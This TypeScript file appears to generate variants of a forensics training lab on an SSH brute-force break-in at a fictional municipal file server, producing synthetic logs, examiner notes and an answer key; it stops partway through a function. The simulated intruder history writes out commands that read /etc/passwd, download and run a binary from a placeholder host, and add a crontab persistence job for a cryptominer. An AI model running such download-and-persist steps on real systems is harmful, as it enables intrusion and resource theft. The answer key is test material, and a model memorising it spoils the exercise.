import { createHash } from 'node:crypto';
import type { VariantGenerator } from '../../server/labs/variants.ts';

/*
 * Variant generator of the lab "Brute force on a municipal file server".
 *
 * From the seed it writes what the examiner extracted from the disk image of EBK-FS02, the
 * Municipality of Eastbrook's Ubuntu 18.04 Samba/SSH file server:
 *  - evidence/auth.log.1: Sunday 10 November 2024 06:25 to Sunday 17 November 06:25 (weekly rotation
 *    by cron.daily's logrotate), and evidence/auth.log: from that rotation to the shutdown on Monday
 *    18 November. Local time (Europe/Amsterdam, UTC+01:00 in November), no year, as rsyslog writes it;
 *  - evidence/bash_history: the history of the account the intruder used;
 *  - evidence/examination-notes.txt: the examiner's listing and SHA-256 of the files left in /tmp.
 *
 * The log holds benign noise many times the size of the signal: root cron jobs every five minutes,
 * hourly and daily, staff logging in over SFTP with passwords from the office LAN and the VPN, the
 * IT coordinator using keys and sudo (once su), a GIS contractor with a key from the internet, one
 * staff typo, internet scanners (no identification string, invalid users, HTTP on port 22, old key
 * exchange) and a noisy botnet address guessing root passwords on several nights that never gets
 * in. The intrusion: a banner probe on Saturday evening, then early on Sunday a password-guessing
 * run (root, generic names, staff names from the municipality's website, some of which no longer
 * exist) that crosses the log rotation, ends with "Accepted password" for a staff account, an
 * interactive session, a second session in the evening, and a crontab job that then runs every ten
 * minutes as that account.
 *
 * Every line passes through the same repeated-message reduction as Ubuntu's rsyslog
 * ($RepeatedMsgReduction on): identical consecutive messages become "message repeated N times".
 * A single repeat is written as the message again: "Failed password" then stands for itself.
 * Only context.random is used; the same seed always gives byte-identical files.
 */

const HOST = 'ebk-fs02';
const DAY = 86_400;
const LOGIND = 'systemd-logind[874]';
/** Linux's default pid_max on Ubuntu 18.04: process ids wrap around after it. */
const PID_MAX = 32_768;

/** Seconds since 2024-11-01T00:00:00 local time; the server's zone is UTC+01:00 all of November. */
type Time = number;

const at = (day: number, hour: number, minute = 0, second = 0): Time =>
  (day - 1) * DAY + hour * 3600 + minute * 60 + second;
const two = (value: number): string => String(value).padStart(2, '0');

/** The local clock's midnight of 1 November 2024, held in a UTC Date so that the getUTC* methods read the server's local clock. */
const NOVEMBER_FIRST = Date.UTC(2024, 10, 1);
const MONTHS = ['Jan', 'Feb', 'Mar', 'Apr', 'May', 'Jun', 'Jul', 'Aug', 'Sep', 'Oct', 'Nov', 'Dec'];
const WEEKDAYS = ['Sun', 'Mon', 'Tue', 'Wed', 'Thu', 'Fri', 'Sat'];

function clock(time: Time): { month: number; day: number; weekday: number; hh: string; mm: string; ss: string } {
  const moment = new Date(NOVEMBER_FIRST + time * 1000);
  return {
    month: moment.getUTCMonth() + 1,
    day: moment.getUTCDate(),
    weekday: moment.getUTCDay(),
    hh: two(moment.getUTCHours()),
    mm: two(moment.getUTCMinutes()),
    ss: two(moment.getUTCSeconds()),
  };
}

/** The time stamp rsyslog writes (RFC 3164: no year, no zone, day padded with a space). */
function syslogTime(time: Time): string {
  const { month, day, hh, mm, ss } = clock(time);
  return `${MONTHS[month - 1]} ${String(day).padStart(2, ' ')} ${hh}:${mm}:${ss}`;
}

/** ISO 8601 with the server's offset: "2024-11-17T06:41:09+01:00". */
function localIso(time: Time): string {
  const { month, day, hh, mm, ss } = clock(time);
  return `2024-${two(month)}-${two(day)}T${hh}:${mm}:${ss}+01:00`;
}

/** The same moment in UTC, as people write it: "2024-11-17 05:41:09 UTC". */
function utcText(time: Time): string {
  const { month, day, hh, mm, ss } = clock(time - 3600);
  return `2024-${two(month)}-${two(day)} ${hh}:${mm}:${ss} UTC`;
}

/** The local clock time wrongly labelled as UTC (the classic mistake with syslog time stamps). */
function localReadAsUtc(time: Time): string {
  const { month, day, hh, mm, ss } = clock(time);
  return `2024-${two(month)}-${two(day)}T${hh}:${mm}:${ss}Z`;
}

/** `ls --time-style=full-iso` as the examiner's workstation (Europe/Amsterdam) prints it. */
function fullIso(time: Time, nanos: string): string {
  // Summer time (+0200) ran from 31 March to 27 October 2024, 02:00 in winter time.
  const summer = time >= at(-214, 2) && time < at(-4, 2);
  const { month, day, hh, mm, ss } = clock(summer ? time + 3600 : time);
  return `2024-${two(month)}-${two(day)} ${hh}:${mm}:${ss}.${nanos} ${summer ? '+0200' : '+0100'}`;
}

/** ctime(3) as crontab writes it in its header: "Sun Nov 17 07:03:11 2024". */
function ctime(time: Time): string {
  const { month, day, weekday, hh, mm, ss } = clock(time);
  return `${WEEKDAYS[weekday]} ${MONTHS[month - 1]} ${String(day).padStart(2, ' ')} ${hh}:${mm}:${ss} 2024`;
}

/** A log line before process ids are known: [time, program, message]; `program` gets the pid appended when it has one. */
type Draft = [Time, string, string];

/** A burst of lines that belongs together (one connection, one cron run). Times are fixed when planned; pids are handed out in time order. */
interface Episode {
  start: Time;
  /** How many process ids the episode needs. */
  pids: number;
  /** Whether it opens a systemd-logind session (interactive and SFTP logins do, cron does not). */
  session: boolean;
  build(pids: number[], session: number): Draft[];
}

interface Account {
  user: string;
  /** Where the person normally connects from (office workstation first, then their VPN address). */
  addresses: string[];
}

/** Staff names in the municipality's account format. Some have accounts on FS02; the others left or never had one. */
const STAFF_POOL = [
  'j.dekker',
  'm.jansen',
  'a.bakker',
  's.visser',
  'p.smit',
  'l.meijer',
  'r.vos',
  'e.mulder',
  't.bos',
  'n.peters',
  'k.hendriks',
  'w.degraaf',
];
/** Names password-guessing tools try on every server. None exists on FS02. */
const GENERIC_USERS = [
  'admin',
  'test',
  'user',
  'ubuntu',
  'guest',
  'ftpuser',
  'oracle',
  'support',
  'administrator',
  'pi',
  'deploy',
  'git',
];
/** What scanners ask for. */
const PROBE_USERS = [
  'admin',
  'test',
  'ubnt',
  'pi',
  'user',
  'support',
  'oracle',
  'postgres',
  'hadoop',
  'nagios',
  'vagrant',
  'debian',
  'steam',
  'minecraft',
];
const ADMIN_COMMANDS = [
  '/usr/bin/apt update',
  '/usr/bin/apt list --upgradable',
  '/bin/systemctl status smbd',
  '/usr/bin/smbstatus',
  '/bin/df -h /srv/samba',
  '/usr/bin/du -sh /srv/samba/ruimtelijke-ordening',
  '/bin/journalctl -u smbd --since today',
  '/usr/sbin/repquota -a',
];
const TOOL_NAMES = ['sysupd', 'kswapd1', 'dbus-sync', 'netmond', 'kthrotld', 'syslogd2', 'udevadm-h'];
const HIDDEN_DIRS = ['.ICE-unix-', '.X11-lock-', '.font-cache-', '.Test-unix-'];
const DOWNLOAD_HOSTS: [string, string][] = [
  ['dl', 'net'],
  ['cdn', 'org'],
  ['files', 'com'],
  ['mirror', 'net'],
  ['static', 'org'],
];

const generate: VariantGenerator = ({ random }) => {
  const usedAddresses = new Set<string>(['192.0.2.10', '192.0.2.15']);
  const address = (prefix: string, low = 2, high = 254): string => {
    for (;;) {
      const candidate = `${prefix}.${random.int(low, high)}`;
      if (!usedAddresses.has(candidate)) {
        usedAddresses.add(candidate);
        return candidate;
      }
    }
  };
  const internet = () => address(random.pick(['203.0.113', '198.51.100', '192.0.2']));
  const port = (): number => random.int(32_768, 60_999);
  const fingerprint = (): string =>
    Buffer.from(Array.from({ length: 32 }, () => random.int(0, 255)))
      .toString('base64')
      .replace(/=+$/u, '');

  // --- The period: auth.log.1 starts at the rotation of Sunday 10 November, auth.log at the one of Sunday 17 November.
  const previousRotation = at(10, 6, 25, 1) + random.int(3, 20);
  const rotation = at(17, 6, 25, 1) + random.int(3, 20);
  const shutdown = at(18, 11, random.int(20, 59), random.int(0, 59));

  // --- People and their accounts.
  const pool = random.shuffle(STAFF_POOL);
  const staff: Account[] = pool
    .slice(0, 7)
    .map((user) => ({ user, addresses: [address('10.20.0', 20, 199), address('10.8.0', 6, 250)] }));
  const formerStaff = pool.slice(7);
  const admin: Account = { user: 'h.brekke', addresses: ['10.20.0.5', address('10.8.0', 6, 250)] };
  const contractorIp = address('198.51.100');
  const adminKey = fingerprint();
  const contractorKey = fingerprint();

  const victim = staff[random.int(0, staff.length - 1)]!;
  const others = staff.filter((person) => person !== victim);
  const otherTargets = random.shuffle(others).slice(0, random.int(1, 3));
  const formerTargets = random.shuffle(formerStaff).slice(0, random.int(1, 3));
  const typoStaff = random.pick(others);

  const attackerIp = address(random.pick(['203.0.113', '198.51.100']));
  const botnetIp = internet();
  const scannerIps = Array.from({ length: random.int(6, 9) }, internet);

  const episodes: Episode[] = [];
  const inPeriod = (time: Time) => time > previousRotation && time < shutdown;

  // --- Cron: a root job every five minutes, run-parts hourly at :17, daily at 06:25, weekly on Sunday at 06:47.
  for (let time = at(10, 6, 25); time < shutdown; time += 300)
    episodes.push(cronRun(time + 1, 'root', random.int(0, 2)));
  for (let day = 10; day <= 18; day++) {
    for (let hour = 0; hour < 24; hour++) episodes.push(cronRun(at(day, hour, 17, 1), 'root', random.int(0, 1)));
    episodes.push(cronRun(at(day, 6, 25, 1), 'root', random.int(20, 75)));
    if (day === 10 || day === 17) episodes.push(cronRun(at(day, 6, 47, 1), 'root', random.int(1, 6)));
  }

  // --- Staff: SFTP sessions with passwords on working days, now and then at the weekend over the VPN.
  const ownLogins = new Map<string, Time[]>();
  const workingDays = [11, 12, 13, 14, 15, 18];
  for (const day of [10, 11, 12, 13, 14, 15, 16, 17, 18]) {
    const working = workingDays.includes(day);
    for (const person of staff) {
      // The account holder states they did not log in at the weekend; others sometimes do, over the VPN.
      const count = working
        ? person === victim
          ? random.int(1, 2)
          : random.int(0, 2)
        : person !== victim && random.chance(0.12)
          ? 1
          : 0;
      for (let index = 0; index < count; index++) {
        const start = working
          ? at(day, index === 0 ? random.int(8, 11) : random.int(13, 16), random.int(0, 59), random.int(0, 59))
          : at(day, random.int(10, 20), random.int(0, 59), random.int(0, 59));
        if (day === 18 && start > shutdown - 1800) continue;
        const from = working && random.chance(0.75) ? person.addresses[0]! : person.addresses[1]!;
        const length = Math.min(random.int(2 * 60, 50 * 60), shutdown - 60 - start);
        ownLogins.set(person.user, [...(ownLogins.get(person.user) ?? []), start]);
        episodes.push(login(person.user, from, start, length, 'password', { sftp: true }));
      }
    }
  }
  // One staff member mistypes the password once, then gets in on the second try in the same connection.
  {
    const day = random.pick([12, 13, 14]);
    const start = at(day, random.int(19, 21), random.int(0, 59), random.int(0, 50));
    episodes.push(
      login(typoStaff.user, typoStaff.addresses[1]!, start, random.int(5 * 60, 30 * 60), 'password', {
        sftp: true,
        failuresFirst: [start - random.int(6, 12)],
      }),
    );
  }

  // --- The IT coordinator: key logins from her workstation with routine sudo, once su to the scanner account.
  const suDay = random.pick([11, 12, 13, 14, 15]);
  for (const day of [11, 12, 13, 14, 15]) {
    for (let index = random.int(1, 2); index > 0; index--) {
      const start = at(day, index === 2 ? random.int(8, 10) : random.int(13, 16), random.int(0, 59), random.int(0, 59));
      const length = random.int(5 * 60, 45 * 60);
      const sudo = Array.from({ length: random.int(1, 3) }, (): [number, string] => [
        random.int(20, length - 20),
        random.pick(ADMIN_COMMANDS),
      ]).sort((a, b) => a[0] - b[0]);
      episodes.push(
        login(admin.user, admin.addresses[0]!, start, length, 'publickey', {
          key: adminKey,
          sudo,
          su: day === suDay && index === 1 ? random.int(30, length - 60) : undefined,
        }),
      );
    }
  }
  // --- The GIS contractor: key logins from its office on the internet, SFTP only.
  for (const day of random.shuffle([11, 12, 13, 14, 15]).slice(0, random.int(2, 4))) {
    const start = at(day, random.int(9, 16), random.int(0, 59), random.int(0, 59));
    episodes.push(
      login('quillmere', contractorIp, start, random.int(60, 20 * 60), 'publickey', {
        key: contractorKey,
        sftp: true,
      }),
    );
  }

  // --- Internet noise: scanners that never try a password for a real account, and a botnet that guesses root passwords at night.
  for (const scanner of scannerIps) {
    for (let probe = random.int(1, 5); probe > 0; probe--) {
      const start = random.int(previousRotation + 60, shutdown - 600);
      episodes.push(
        random.pick([noIdentification, invalidUserProbe, closedBeforeAuth, httpOnSsh, oldKeyExchange, politeProbe])(
          scanner,
          start,
        ),
      );
    }
    if (random.chance(0.35)) {
      let time = random.int(previousRotation + 60, shutdown - 3600);
      for (let attempt = random.int(1, 3); attempt > 0; attempt--) {
        time += random.int(3, 30);
        const times = [time + 2];
        time += 3;
        episodes.push(guessConnection(scanner, random.pick(PROBE_USERS), false, times));
      }
    }
  }
  let botnetFailures = 0;
  {
    const nights = random.shuffle([10, 11, 12, 13, 14, 15, 18]).slice(0, random.int(3, 5));
    for (const night of nights) {
      let time = at(night, random.int(0, 4), random.int(0, 59), random.int(0, 59));
      if (time >= shutdown - 3600) time = at(night, 1, random.int(0, 59));
      for (let connection = random.int(6, 16); connection > 0; connection--) {
        time += random.int(1, 4);
        const user = random.chance(0.85) ? 'root' : random.pick(['admin', 'test', 'user']);
        const attempts = random.chance(0.8) ? 6 : random.int(1, 5);
        const times = Array.from({ length: attempts }, () => (time += random.int(2, 4)));
        botnetFailures += attempts;
        episodes.push(guessConnection(botnetIp, user, user === 'root', times));
      }
    }
  }

  // --- The intrusion. Saturday evening: a banner probe from the attacker's address.
  const probeAt = at(16, random.int(19, 23), random.int(0, 59), random.int(0, 59));
  episodes.push(noIdentification(attackerIp, probeAt));
  episodes.push(closedBeforeAuth(attackerIp, probeAt + random.int(30, 600)));

  // The guessing run: root, generic names, then staff names (some of which no longer exist), the victim last.
  interface Connection {
    user: string;
    valid: boolean;
    attempts: number;
  }
  const connections: Connection[] = [];
  const sixes = (user: string, valid: boolean, count: number) => {
    for (let index = 0; index < count; index++)
      connections.push({ user, valid, attempts: index === count - 1 && random.chance(0.3) ? random.int(1, 5) : 6 });
  };
  sixes('root', true, random.int(8, 18));
  for (const user of random
    .shuffle(GENERIC_USERS.filter((name) => name !== 'admin'))
    .slice(0, random.int(4, 8))
    .concat('admin')
    .reverse()) {
    for (let count = random.int(1, 2); count > 0; count--)
      connections.push({ user, valid: false, attempts: random.int(1, 6) });
  }
  for (const user of random.shuffle([...otherTargets.map((person) => person.user), ...formerTargets]))
    sixes(user, !formerStaff.includes(user), random.int(2, 5));
  sixes(victim.user, true, random.int(2, 7));
  const failuresBeforeSuccess = random.int(0, 4);

  const attemptTimes: Time[][] = [];
  let clockAt = 0;
  for (const connection of connections) {
    clockAt += random.int(1, 3);
    attemptTimes.push(Array.from({ length: connection.attempts }, () => (clockAt += random.int(3, 5))));
    clockAt += 1;
  }
  clockAt += random.int(1, 3);
  const successTimes = Array.from({ length: failuresBeforeSuccess }, () => (clockAt += random.int(3, 5)));
  clockAt += random.int(3, 5);
  const runLength = clockAt;
  // The run crosses the weekly log rotation, so it is split over auth.log.1 and auth.log.
  const runStart = rotation - Math.round(runLength * (0.25 + random.next() * 0.5));
  connections.forEach((connection, index) => {
    episodes.push(
      guessConnection(
        attackerIp,
        connection.user,
        connection.valid,
        attemptTimes[index]!.map((time) => runStart + time),
      ),
    );
  });
  const firstLogin = runStart + runLength;
  const firstSession = random.int(10 * 60, 22 * 60);
  episodes.push(
    login(victim.user, attackerIp, firstLogin, firstSession, 'password', {
      failuresFirst: successTimes.map((time) => runStart + time),
      // The program started with nohup in this session runs on, so logind never removes the session.
      lingering: true,
    }),
  );
  const failedAttempts =
    connections.reduce((total, connection) => total + connection.attempts, 0) + failuresBeforeSuccess;

  const secondLogin = at(17, random.int(17, 22), random.int(0, 59), random.int(0, 59));
  const secondSession = random.int(3 * 60, 8 * 60);
  episodes.push(login(victim.user, attackerIp, secondLogin, secondSession, 'password', {}));

  // --- What the intruder typed (bash writes the history when each shell exits; no time stamps).
  const tool = random.pick(TOOL_NAMES);
  const hiddenDir = `/tmp/${random.pick(HIDDEN_DIRS)}${random.hex(4)}`;
  const [hostLabel, hostTld] = random.pick(DOWNLOAD_HOSTS);
  const host = `${hostLabel}.example.${hostTld}`;
  const folder = random.hex(8);
  const downloadPath = `${folder}/${tool}`;
  const downloadUrl = `http://${host}/${downloadPath}`;
  const configUrl = `http://${host}/${folder}/config.json`;
  const passwdFirst = random.chance(0.5);
  const persistence = random.pick(['before-run', 'after-run', 'second-session'] as const);

  const identity = ['whoami', 'id', 'uname -a'];
  const accountList = ['cat /etc/passwd'];
  const cronLine = `*/10 * * * * pgrep -x ${tool} >/dev/null || (cd ${hiddenDir} && nohup ./${tool} -c config.json >/dev/null 2>&1 &)`;
  const installCron = [`(crontab -l 2>/dev/null; echo "${cronLine}") | crontab -`, 'crontab -l'];
  const download = [
    `cd /tmp`,
    `mkdir ${hiddenDir.slice(5)}`,
    `cd ${hiddenDir.slice(5)}`,
    `wget -q ${downloadUrl}`,
    `curl -s -O ${configUrl}`,
    'ls -la',
  ];
  const run = [`chmod +x ${tool}`, `nohup ./${tool} -c config.json &`, `ps aux | grep ${tool}`];
  const firstShell = [
    ...(passwdFirst ? [...accountList, 'w', ...identity] : [...identity, 'w', ...accountList]),
    'nproc',
    'free -m',
    'df -h',
    ...download,
    ...(persistence === 'before-run'
      ? [...installCron, ...run]
      : persistence === 'after-run'
        ? [...run, ...installCron]
        : run),
    'exit',
  ];
  const secondShell = [
    'uptime',
    `ps aux | grep ${tool} | grep -v grep`,
    ...(persistence === 'second-session' ? installCron : []),
    'exit',
  ];
  const history = `${[...firstShell, ...secondShell].join('\n')}\n`;
  const actionOrder = [
    ...(passwdFirst ? ['account-list', 'system-info'] : ['system-info', 'account-list']),
    'fetch-file',
    ...(persistence === 'before-run' ? ['cron-entry', 'run-program'] : ['run-program', 'cron-entry']),
  ];

  // When things happened inside the first session (for file times and the cron job's first run).
  const downloadedAt = firstLogin + Math.round(firstSession * (0.3 + random.next() * 0.1));
  const configAt = downloadedAt + random.int(2, 6);
  const startedAt = downloadedAt + random.int(40, 120);
  const cronInstalledAt =
    persistence === 'second-session'
      ? secondLogin + Math.round(secondSession * 0.6)
      : persistence === 'before-run'
        ? startedAt - random.int(15, 30)
        : startedAt + random.int(30, 90);
  for (let time = Math.ceil((cronInstalledAt + 1) / 600) * 600; time < shutdown; time += 600)
    episodes.push(cronRun(time + 1, victim.user, 0));

  // --- Monday: staff complain that the shares are slow; the IT coordinator looks, finds the job and shuts the server down.
  {
    const start = shutdown - random.int(15 * 60, 30 * 60);
    const length = shutdown - start - 2;
    const sudo: [number, string][] = [
      [random.int(60, 120), '/usr/bin/top -b -n 1'],
      [random.int(180, 300), '/bin/ps auxf'],
      [random.int(360, 500), `/usr/bin/crontab -l -u ${victim.user}`],
      [length, '/sbin/shutdown -h now'],
    ];
    episodes.push(login(admin.user, admin.addresses[0]!, start, length + 2, 'publickey', { key: adminKey, sudo }));
  }

  // --- Hand out process and logind session ids in time order, write, reduce repeats, split at the rotation.
  episodes.sort((a, b) => a.start - b.start);
  let pid = random.int(2000, 4000);
  let session = random.int(180, 420);
  const drafts: Draft[] = [];
  for (const episode of episodes) {
    const pids = Array.from({ length: episode.pids }, () => {
      pid += random.int(1, 9);
      if (pid >= PID_MAX) pid = 300 + random.int(0, 400);
      return pid;
    });
    drafts.push(...episode.build(pids, episode.session ? session++ : 0));
  }
  const ordered = drafts
    .map((draft, order) => ({ draft, order }))
    .filter(({ draft }) => inPeriod(draft[0]))
    .sort((a, b) => a.draft[0] - b.draft[0] || a.order - b.order)
    .map(({ draft }) => draft);
  ordered.push([shutdown, LOGIND, 'System is powering down.']);
  const lines = reduceRepeats(ordered);
  const render = (selected: Draft[]) =>
    selected.map(([time, program, message]) => `${syslogTime(time)} ${HOST} ${program}: ${message}\n`).join('');
  const rotatedLog = render(lines.filter(([time]) => time < rotation));
  const currentLog = render(lines.filter(([time]) => time >= rotation));

  // --- The examiner's notes on /tmp, with the hashes of what was found.
  const victimUid = 1001 + pool.indexOf(victim.user);
  const wallet = `4${Array.from({ length: 94 }, () => random.pick([...'123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz'])).join('')}`;
  const configJson = `${JSON.stringify(
    {
      autosave: false,
      background: true,
      cpu: { enabled: true, 'max-threads-hint': 100 },
      pools: [
        {
          url: `pool.example.${random.pick(['com', 'org'])}:${random.pick([3333, 4444, 5555])}`,
          user: wallet,
          pass: 'x',
          keepalive: true,
          tls: false,
        },
      ],
    },
    null,
    2,
  )}\n`;
  const configSha256 = sha256(configJson);
  const configBytes = Buffer.byteLength(configJson);
  const toolSha256 = random.hex(64);
  const nohupSha256 = random.hex(64);
  const historySha256 = sha256(history);
  const crontabFile = `# DO NOT EDIT THIS FILE - edit the master and reinstall.\n# (- installed on ${ctime(cronInstalledAt)})\n# (Cron version -- $Id: crontab.c,v 2.13 1994/01/17 03:20:37 vixie Exp $)\n${cronLine}\n`;
  const crontabSha256 = sha256(crontabFile);
  const serverModified = at(1, 0) - random.int(3, 25) * DAY + random.int(0, DAY - 1);
  const nanos = () => String(random.int(0, 999_999_999)).padStart(9, '0');
  const toolSize = random.int(2_400_000, 6_900_000);
  const nohupSize = random.int(2_000, 90_000);
  const tmpEntries = random.shuffle(['.ICE-unix', '.Test-unix', '.X11-unix', '.XIM-unix', '.font-unix']);
  const hiddenName = hiddenDir.slice(5);
  // The directory changed last when nohup created nohup.out; /tmp when the system last touched it.
  const hiddenDirTime = fullIso(startedAt, nanos());
  const tmpTime = fullIso(shutdown - random.int(100, 900), nanos());
  const hiddenFiles: [string, string][] = [
    [
      'config.json',
      `-rw-r--r--  1 ${victimUid} ${victimUid} ${String(configBytes).padStart(7)} ${fullIso(configAt, nanos())} config.json`,
    ],
    [
      'nohup.out',
      `-rw-------  1 ${victimUid} ${victimUid} ${String(nohupSize).padStart(7)} ${fullIso(shutdown - random.int(30, 400), nanos())} nohup.out`,
    ],
    [
      tool,
      `-rwxr-xr-x  1 ${victimUid} ${victimUid} ${String(toolSize).padStart(7)} ${fullIso(serverModified, '000000000')} ${tool}`,
    ],
  ];
  hiddenFiles.sort((a, b) => (a[0] < b[0] ? -1 : 1));
  const systemdDirs = ['systemd-resolved.service', 'systemd-timesyncd.service'].map(
    (unit) => `systemd-private-${random.hex(32)}-${unit}-${random.hex(6)}`,
  );
  const examinerName = 'T. Wilk';
  const tmpListing = [
    ...[...tmpEntries, hiddenName]
      .sort()
      .map((name) =>
        name === hiddenName
          ? `drwxr-xr-x  2 ${victimUid} ${victimUid} 4096 ${hiddenDirTime} ${name}`
          : `drwxrwxrwt  2 0    0    4096 ${fullIso(at(4, 7, random.int(2, 4), random.int(0, 59)), nanos())} ${name}`,
      ),
    ...systemdDirs.map(
      (name) => `drwx------  3 0    0    4096 ${fullIso(at(4, 7, 2, random.int(10, 40)), nanos())} ${name}`,
    ),
  ];
  const notes = [
    'NORTHVALE POLICE - REGIONAL CYBERCRIME UNIT - DIGITAL FORENSICS',
    'Examination notes (extract)                     Case EBK-2024-1187',
    `Exhibit NV/4, prepared from exhibit NV/0 (disk image of EBK-FS02)`,
    `Examiner: ${examinerName}, forensic examiner          Date: 2024-11-19`,
    '',
    'NV/0 (ebk-fs02-sda.E01) verified: acquisition hash matches. Root file',
    'system (ext4) mounted read-only, noexec, at /mnt/fs02 on the forensic',
    "workstation. Times below are shown in Europe/Amsterdam, the workstation's",
    'display zone (+0100; +0200 in summer time). Owners are shown as numeric',
    'ids because the workstation has no such accounts: look the ids up in',
    '/mnt/fs02/etc/passwd.',
    '',
    '1. /tmp: one directory does not belong to the system',
    '',
    '$ ls -la --time-style=full-iso /mnt/fs02/tmp',
    `total ${4 * (tmpEntries.length + systemdDirs.length + 3)}`,
    `drwxrwxrwt 10 0    0    4096 ${tmpTime} .`,
    `drwxr-xr-x 24 0    0    4096 ${fullIso(at(1, 0) - 250 * DAY + random.int(0, DAY), nanos())} ..`,
    ...tmpListing,
    '',
    `$ ls -la --time-style=full-iso /mnt/fs02/tmp/${hiddenName}`,
    `total ${Math.ceil((toolSize + nohupSize) / 4096) * 4 + 12}`,
    `drwxr-xr-x  2 ${victimUid} ${victimUid}    4096 ${hiddenDirTime} .`,
    `drwxrwxrwt 10 0    0       4096 ${tmpTime} ..`,
    ...hiddenFiles.map(([, line]) => line),
    '',
    'Note: wget sets the time of a downloaded file to the Last-Modified time the',
    `web server sent, so the time shown for ${tool} is not when it was downloaded.`,
    '',
    '2. File types',
    '',
    `$ cd /mnt/fs02 && file tmp/${hiddenName}/*`,
    `tmp/${hiddenName}/config.json: JSON data`,
    `tmp/${hiddenName}/nohup.out:   ASCII text`,
    `tmp/${hiddenName}/${tool}: ELF 64-bit LSB executable, x86-64, version 1 (SYSV), statically linked, stripped`,
    '',
    '3. SHA-256 of the files found, of the crontab and of exhibit NV/3',
    '',
    `$ cd /mnt/fs02 && sha256sum home/${victim.user}/.bash_history var/spool/cron/crontabs/${victim.user} tmp/${hiddenName}/*`,
    `${historySha256}  home/${victim.user}/.bash_history`,
    `${crontabSha256}  var/spool/cron/crontabs/${victim.user}`,
    `${configSha256}  tmp/${hiddenName}/config.json`,
    `${nohupSha256}  tmp/${hiddenName}/nohup.out`,
    `${toolSha256}  tmp/${hiddenName}/${tool}`,
    '',
    '4. Contents of the small files',
    '',
    `$ cat var/spool/cron/crontabs/${victim.user}`,
    crontabFile.trimEnd(),
    '',
    `$ cat tmp/${hiddenName}/config.json`,
    configJson.trimEnd(),
    '',
    `The binary ${tool} and nohup.out were exported to exhibits NV/5 and NV/6 for`,
    'malware analysis (pending). Nothing was executed on the forensic workstation.',
    '',
  ].join('\n');

  // --- Wrong answers trainees give, derived from the files as written.
  const attackerFailures = (text: string) => {
    let lines = 0;
    let repeated = 0;
    let repeatLines = 0;
    for (const line of text.split('\n')) {
      if (!line.includes(`from ${attackerIp} port`) || !line.includes('Failed password')) continue;
      const repeat = /message repeated (\d+) times/u.exec(line);
      if (repeat) {
        repeated += Number(repeat[1]);
        repeatLines++;
      } else lines++;
    }
    return { lines, repeated, repeatLines, total: lines + repeated };
  };
  const inRotated = attackerFailures(rotatedLog);
  const inCurrent = attackerFailures(currentLog);
  if (inRotated.total + inCurrent.total !== failedAttempts)
    throw new Error(
      `generator bug: the log holds ${inRotated.total + inCurrent.total} failures from the attacker, not ${failedAttempts}`,
    );

  return {
    files: {
      'evidence/auth.log.1': rotatedLog,
      'evidence/auth.log': currentLog,
      'evidence/bash_history': history,
      'evidence/examination-notes.txt': notes,
    },
    values: {
      attacker_ip: attackerIp,
      botnet_ip: botnetIp,
      contractor_ip: contractorIp,
      victim_office_ip: victim.addresses[0]!,
      typo_staff_vpn_ip: typoStaff.addresses[1]!,
      failed_attempts: failedAttempts,
      failed_lines_only: String(inRotated.lines + inCurrent.lines),
      failed_repeat_lines_once: String(
        inRotated.lines + inCurrent.lines + inRotated.repeatLines + inCurrent.repeatLines,
      ),
      failed_in_auth_log: String(inCurrent.total),
      failed_in_auth_log_1: String(inRotated.total),
      botnet_failures: String(botnetFailures),
      existing_targets: ['root', ...otherTargets.map((person) => person.user), victim.user],
      former_targets: formerTargets,
      other_existing_target: otherTargets[0]!.user,
      compromised_user: victim.user,
      first_login: localIso(firstLogin),
      first_login_syslog: syslogTime(firstLogin),
      first_login_utc: utcText(firstLogin),
      first_login_read_as_utc: localReadAsUtc(firstLogin),
      last_failure: localIso(
        successTimes.length > 0
          ? runStart + successTimes[successTimes.length - 1]!
          : runStart + attemptTimes[attemptTimes.length - 1]!.at(-1)!,
      ),
      second_login: localIso(secondLogin),
      victim_own_login: localIso(
        Math.max(...(ownLogins.get(victim.user) ?? [at(15, 9)]).filter((time) => time < runStart)),
      ),
      rotation_time: syslogTime(rotation),
      download_url: downloadUrl,
      url_host_label: hostLabel,
      url_host_tld: hostTld,
      download_path: downloadPath,
      config_url: configUrl,
      tool_name: tool,
      hidden_dir: hiddenDir,
      download_sha256: toolSha256,
      config_sha256: configSha256,
      history_sha256: historySha256,
      crontab_sha256: crontabSha256,
      action_order: actionOrder,
    },
  };

  // --- Episode builders (function declarations are hoisted; they use `random` and `port` above).

  function cronRun(start: Time, user: string, length: number): Episode {
    return {
      start,
      pids: 1,
      session: false,
      build: ([cron]) => [
        [start, `CRON[${cron}]`, `pam_unix(cron:session): session opened for user ${user} by (uid=0)`],
        [start + length, `CRON[${cron}]`, `pam_unix(cron:session): session closed for user ${user}`],
      ],
    };
  }

  /**
   * A successful SSH login. `failuresFirst` are the times of wrong passwords in the same connection
   * before the right one; `sudo` lists [seconds after login, command]; `su` the moment of an su to the
   * scanner service account.
   */
  function login(
    user: string,
    from: string,
    start: Time,
    length: number,
    method: 'password' | 'publickey',
    options: {
      key?: string;
      sftp?: boolean;
      failuresFirst?: Time[];
      sudo?: [number, string][];
      su?: number | undefined;
      /** A process of the session outlives the logout: logind waits for it and logs no "Removed session". */
      lingering?: boolean;
    },
  ): Episode {
    const clientPort = port();
    const failures = options.failuresFirst ?? [];
    return {
      start: failures[0] !== undefined ? failures[0] - 2 : start,
      pids: 3,
      session: true,
      build: ([monitor, child, suPid], sessionId) => {
        const sshd = `sshd[${monitor}]`;
        const lines: Draft[] = [];
        failures.forEach((time, index) => {
          if (index === 0)
            lines.push([
              time - 2,
              sshd,
              `pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=${from}  user=${user}`,
            ]);
          lines.push([time, sshd, `Failed password for ${user} from ${from} port ${clientPort} ssh2`]);
        });
        lines.push(
          [
            start,
            sshd,
            method === 'password'
              ? `Accepted password for ${user} from ${from} port ${clientPort} ssh2`
              : `Accepted publickey for ${user} from ${from} port ${clientPort} ssh2: RSA SHA256:${options.key}`,
          ],
          [start, sshd, `pam_unix(sshd:session): session opened for user ${user} by (uid=0)`],
          [start, LOGIND, `New session ${sessionId} of user ${user}.`],
        );
        if (options.sftp) lines.push([start + 1, `sshd[${child}]`, `subsystem request for sftp by user ${user}`]);
        const tty = `pts/${random.int(0, 2)}`;
        for (const [offset, command] of options.sudo ?? []) {
          const when = start + offset;
          lines.push(
            [when, 'sudo', `${user.padStart(9)} : TTY=${tty} ; PWD=/home/${user} ; USER=root ; COMMAND=${command}`],
